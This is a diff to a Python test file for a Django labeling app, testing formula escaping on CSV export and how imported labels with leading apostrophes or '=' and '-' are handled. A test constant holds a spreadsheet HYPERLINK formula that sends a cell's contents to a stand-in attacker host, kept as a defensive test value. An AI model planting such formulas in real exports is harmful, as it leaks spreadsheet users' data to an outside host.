@@ -13,8 +13,9 @@ from hypothesis import example, given
 from hypothesis import strategies as st
 
 from labeling.exporting.canonical_text import csv_line, escape_formulas, without_escape
+from labeling.importing.save_table import import_labels
 from labeling.models import Item, LabelClass
-from tests.factories import assign
+from tests.factories import MakeDataset, assign
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"see")'
 
@@ -58,3 +59,14 @@ def test_the_page_escapes_and_the_command_does_not(client: Client, make_dataset:
     (tmp_path / "labels.csv").write_bytes(page.read("labels.csv"))
     call_command("import_labels", tmp_path / "labels.csv")
     assert list(Item.objects.order_by("row").values_list("label__name", flat=True)) == ["cat", EVIL, EVIL]
+
+
+@pytest.mark.django_db
+def test_an_apostrophe_of_a_table_that_is_not_escaped_stays(make_dataset: MakeDataset) -> None:
+    dataset = make_dataset(3, classes=())
+    text = b"path,label\nimage0000.png,'=sum\nimage0001.png,=sum\nimage0002.png,-1.5\n"
+    import_labels(dataset, io.BytesIO(text), user=None, create_classes=True)
+    assert set(dataset.classes.values_list("name", flat=True)) == {"'=sum", "=sum", "-1.5"}
+    other = make_dataset(3, name="other", classes=())
+    import_labels(other, io.BytesIO(text.replace(b",=sum", b",'-sum")), user=None, create_classes=True)
+    assert set(other.classes.values_list("name", flat=True)) == {"=sum", "-sum", "-1.5"}
